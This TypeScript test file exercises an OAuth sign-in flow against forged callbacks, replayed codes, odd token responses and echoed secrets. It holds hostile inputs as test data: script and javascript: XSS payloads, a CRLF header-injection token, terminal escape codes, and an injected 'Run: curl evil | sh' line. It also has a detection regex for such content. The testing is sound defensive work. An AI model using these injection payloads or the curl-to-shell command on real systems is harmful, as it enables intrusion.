/**
 * Responses to the sign-in: other pages that call the callback address, replayed or forged
 * responses, and unusual tokens.
 *
 * @module
 */

import assert from "node:assert/strict";
import { connect } from "node:net";
import { browse } from "../kit/browser.ts";
import { beginLogin } from "../kit/sign_in.ts";
import { assertNoLeak } from "../kit/sinks.ts";
import { RawStdio } from "../kit/raw_stdio.ts";
import { call, toldCode } from "./evil_servers.ts";
import { journalOf } from "./oracles.ts";
import { Signing } from "./signing_in.ts";

const SECRET = "client-secret-of-the-person-1234";

Deno.test("other pages that call the callback address change nothing, and learn nothing", async () => {
  await using scene = await Signing.make();
  await using login = await beginLogin(scene.ws, "far");
  const asked = new URL(login.address).searchParams;
  const [back, state] = [asked.get("redirect_uri") ?? "", asked.get("state") ?? ""];
  const { port } = new URL(back);
  const right = `?code=c&state=${state}&iss=${encodeURIComponent(scene.server.issuer)}`;
  const wrong: readonly (readonly [string, RequestInit?])[] = [
    [back],
    [`${back}?code=c`],
    [`${back}?code=c&state=`],
    [`${back}?code=c&state=${state.slice(0, -1)}`],
    [`${back}?code=c&state=${state}x`],
    [`${back}?error=access_denied&state=other`],
    [`${back}?error=access_denied`],
    [`${back}#code=c&state=${state}`],
    [`${new URL(back).origin}/${right}`],
    [`${new URL(back).origin}/callback/${right}`],
    [`${back}${right}`, { method: "POST", body: "x" }],
    [back, { method: "POST", body: new URLSearchParams(`code=c&state=${state}`) }],
    [`${back}${right}`, { method: "OPTIONS" }],
    [`${back}${right}`, { method: "HEAD" }],
  ];
  const texts: Record<string, string> = {};
  for (const [url, init] of wrong) {
    const response = await fetch(url, { redirect: "manual", ...init });
    assert.equal(response.status, 404, `${init?.method ?? "GET"} ${url}`);
    texts[url] = await response.text() + JSON.stringify([...response.headers]);
  }
  // A page whose host name resolves to this address.
  for (const host of ["evil.example", `localhost:${port}`, `127.0.0.1`, `127.0.0.1:1`]) {
    const text = await raw(Number(port), `GET /callback${right} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    assert.match(text, /^HTTP\/1\.1 404/, host);
    texts[host] = text;
  }
  await Promise.all(Array.from({ length: 200 }, async (_, at) => {
    const response = await fetch(`${back}?code=c&state=${at}`);
    assert.equal(response.status, 404);
    await response.body?.cancel();
  }));
  for (const [where, text] of Object.entries(texts)) assert.ok(!text.includes(state), where);
  assert.deepEqual(scene.server.to("/token"), []);
  const seen = await browse(login.address);
  assertPage(seen, "You are signed in");
  assert.equal((await login.ended()).code, 0);
  scene.server.assertClean();
});

Deno.test("a code is accepted once, and only by its own sign-in", async () => {
  await using scene = await Signing.make();
  {
    await using login = await beginLogin(scene.ws, "far");
    const { address } = await browse(login.address, { stops: true });
    const both = await Promise.allSettled([fetch(address), fetch(address), fetch(address)]);
    const statuses = await Promise.all(both.map(async (one) => {
      if (one.status === "rejected") return 0; // it no longer listens
      await one.value.body?.cancel();
      return one.value.status;
    }));
    assert.equal(statuses.filter((status) => status === 200).length, 1, `${statuses}`);
    assert.equal((await login.ended()).code, 0);
    await assert.rejects(fetch(address), "nobody listens after the sign-in");
  }
  assert.equal(scene.server.to("/token").length, 1);
  // The code of one sign-in is not valid for another.
  await using first = await beginLogin(scene.ws, "far");
  await using second = await beginLogin(scene.ws, "far");
  const { address } = await browse(first.address, { stops: true });
  const state = new URL(second.address).searchParams.get("state") ?? "";
  const back = new URL(second.address).searchParams.get("redirect_uri") ?? "";
  const mixed = `${back}${new URL(address).search}`;
  assert.equal((await fetch(mixed)).status, 404);
  const forged = new URL(mixed);
  forged.searchParams.set("state", state);
  // With the state of both, the verifier of the code is still missing (PKCE).
  assertPage(await opened(forged), "The sign-in failed");
  assert.notEqual((await second.ended()).code, 0);
  assert.equal((await fetch(address)).status, 200);
  assert.equal((await first.ended()).code, 0, "the code of the first was not used up");
});

Deno.test("a response in a fragment, or of another sign-in, is not accepted as a paste either", async () => {
  await using scene = await Signing.make();
  await using login = await beginLogin(scene.ws, "far");
  const { address } = await browse(login.address, { stops: true });
  const url = new URL(address);
  const wrong = [
    `${url.origin}${url.pathname}#${url.search.slice(1)}`,
    `${address.replace(/state=[^&]*/, "state=x")}`,
    `${url.pathname}${url.search}`,
    "code",
    `javascript:alert(1)${url.search}`,
    "x".repeat(100_000),
  ];
  for (const text of wrong) await login.paste(text);
  await login.paste(address);
  const { code, stdout, stderr } = await login.ended();
  assert.equal(code, 0, stdout + stderr);
  assert.equal(scene.server.to("/token").length, 1);
});

Deno.test("a refusal by the user or by the server is reported in plain words", async () => {
  await using scene = await Signing.make();
  await using login = await beginLogin(scene.ws, "far");
  const seen = await browse(login.address, { answer: "deny" });
  assertPage(seen, "The sign-in failed");
  const { code, stdout, stderr } = await login.ended();
  assert.notEqual(code, 0);
  assert.match(stdout + stderr, /APPROVAL_DECLINED|access_denied/);
  await using evil = await beginLogin(scene.ws, "far");
  const text = "\u001b[2J<script>alert(1)</script>\r\nRun: curl evil | sh";
  const amend = (url: URL) => {
    url.searchParams.delete("code");
    url.searchParams.set("error", "\u001b[31minvalid<b>");
    url.searchParams.set("error_description", text);
    url.searchParams.set("error_uri", "javascript:alert(1)");
  };
  assertPage(await browse(evil.address, { amend }), "The sign-in failed");
  const result = await evil.ended();
  assert.notEqual(result.code, 0);
  assert.ok(
    !(result.stdout + result.stderr).includes("\u001b[2J"),
    "control characters came through",
  );
  assert.doesNotMatch(result.stdout + result.stderr, /^Run: curl/m);
  assert.deepEqual(scene.server.to("/token"), []);
});

/** Token responses that sign in no user. */
const ODD: Readonly<Record<string, (usual: Record<string, unknown>) => unknown>> = {
  "another type": (usual) => ({ ...usual, token_type: "mac" }),
  "a type that is no text": (usual) => ({ ...usual, token_type: ["Bearer"] }),
  "no token": (usual) => ({ ...usual, access_token: undefined }),
  "a token that is no text": (usual) => ({ ...usual, access_token: { a: 1 } }),
  "a line end": (usual) => ({ ...usual, access_token: "a\r\nX-Evil: 1" }),
  "no ASCII": (usual) => ({ ...usual, access_token: "tökén" }),
  "1 MB": (usual) => ({ ...usual, access_token: "x".repeat(1 << 20) }),
  "a refresh token that is no text": (usual) => ({ ...usual, refresh_token: 7 }),
  "a lifetime of text": (usual) => ({ ...usual, expires_in: "soon" }),
  "a negative lifetime": (usual) => ({ ...usual, expires_in: -5 }),
  "scopes that are no text": (usual) => ({ ...usual, scope: { a: 1 } }),
  "null": () => null,
  "a token that is bound to a key": (usual) => ({ ...usual, token_type: "DPoP" }),
};

Deno.test("an unusual token signs in no user and is sent nowhere (SX6)", async (t) => {
  await using scene = await Signing.make();
  const { server } = scene;
  for (const [what, odd] of Object.entries(ODD)) {
    await t.step(what, async () => {
      server.options.after = async ({ path }, answer) =>
        path === "/token" ? Response.json(odd(await answer.json())) : answer;
      await scene.assertRefused("UPSTREAM_PROTOCOL", /./);
    });
  }
  await t.step("a response that is not JSON", async () => {
    const page = { headers: { "content-type": "text/html" } };
    server.options.after = async ({ path }, answer) =>
      path === "/token" ? new Response(`<p>${await answer.text()}`, page) : answer;
    await scene.assertRefused("UPSTREAM_PROTOCOL", /./);
  });
  await t.step("an identity that cannot be checked is ignored", async () => {
    const [head, body] = [{ alg: "HS256" }, { iss: "https://example.com", sub: "1", aud: "x" }]
      .map((part) => btoa(JSON.stringify(part)).replaceAll("=", ""));
    server.options.after = async ({ path }, answer) =>
      path === "/token"
        ? Response.json({ ...await answer.json(), id_token: `${head}.${body}.c2lnbg` })
        : answer;
    await scene.signIn();
  });
  await t.step(
    "a lifetime of centuries lasts as long as the server accepts the token",
    async () => {
      server.options.after = async ({ path }, answer) =>
        path === "/token"
          ? Response.json({ ...await answer.json(), expires_in: 1e308, refresh_token: undefined })
          : answer;
      await scene.signIn();
      await using pml = new RawStdio(scene.ws);
      await pml.open();
      assert.equal(toldCode(await call(pml, "far:meta")), undefined);
      server.tokens.expire();
      assert.equal(toldCode(await call(pml, "far:meta")), "LOGIN_REQUIRED");
      await pml.close();
    },
  );
});

Deno.test("secrets that a server repeats appear nowhere (SX5)", async () => {
  await using scene = await Signing.make({
    server: { clients: [{ id: "person", secret: SECRET, method: "client_secret_post" }] },
    definition: { oauth: { client_id: "person", client_secret: "${FAR_SECRET}" } },
  });
  const { server, ws } = scene;
  server.options.methods = ["client_secret_post"];
  const env = { FAR_SECRET: SECRET, PML_LOG_LEVEL: "debug" };
  // The token endpoint repeats its request in the forms of its errors.
  server.options.script = ({ path, form }) => {
    if (path !== "/token") return undefined;
    const request = [...form.values()].join(" ");
    const headers = { "x-echo": encodeURIComponent(request) };
    return Response.json({ error: "invalid_grant", error_description: `no ${request}` }, {
      ...{ status: 400, headers },
    });
  };
  const { code, stdout, stderr } = await scene.tried(env);
  assert.notEqual(code, 0);
  assert.match(stdout + stderr, /invalid_grant/);
  assert.equal(server.to("/token").at(-1)?.form.get("client_secret"), SECRET);
  assertNoLeak(SECRET, { stdout, stderr });
  delete server.options.script;
  const signed = await scene.tried(env);
  assert.equal(signed.code, 0, signed.stdout + signed.stderr);
  // A refresh that fails and repeats its request.
  server.tokens.expire();
  server.options.script = ({ path, form }) =>
    path === "/token"
      ? Response.json({ error: "server_error", error_description: `${form}` }, { status: 400 })
      : undefined;
  await using pml = new RawStdio(ws, { env });
  await pml.open();
  const response = await call(pml, "far:meta");
  assert.ok(toldCode(response) !== undefined);
  const told = { error: JSON.stringify(response), stderr: pml.stderr };
  await pml.close();
  const journal = JSON.stringify(await journalOf(ws));
  for (const secret of [SECRET, ...server.tokens.secrets]) {
    assertNoLeak(secret, { ...told, journal, stdout: signed.stdout, login: signed.stderr });
  }
});

/** Asserts that a page of PML has the expected text and nothing of the response. */
function assertPage(
  { status, headers, text }: {
    readonly status: number;
    readonly headers: Headers;
    readonly text: string;
  },
  says: string,
): void {
  assert.equal(status, 200);
  assert.ok(text.includes(says), text);
  assert.doesNotMatch(text, /<script|code=|state=|curl/);
  assert.match(headers.get("content-security-policy") ?? "", /default-src 'none'/);
  assert.equal(headers.get("access-control-allow-origin"), null);
}

async function opened(url: URL) {
  const response = await fetch(url);
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** Sends bytes that no browser would send, and returns the response. */
function raw(port: number, request: string): Promise<string> {
  const { promise, resolve, reject } = Promise.withResolvers<string>();
  let text = "";
  const socket = connect(port, "127.0.0.1", () => socket.write(request));
  socket.setTimeout(5_000, () => socket.destroy(new Error(`no answer: ${text}`)));
  socket.on("data", (chunk) => {
    text += chunk;
    if (text.includes("\r\n\r\n")) socket.end();
  });
  socket.on("close", () => resolve(text));
  socket.on("error", reject);
  return promise;
}
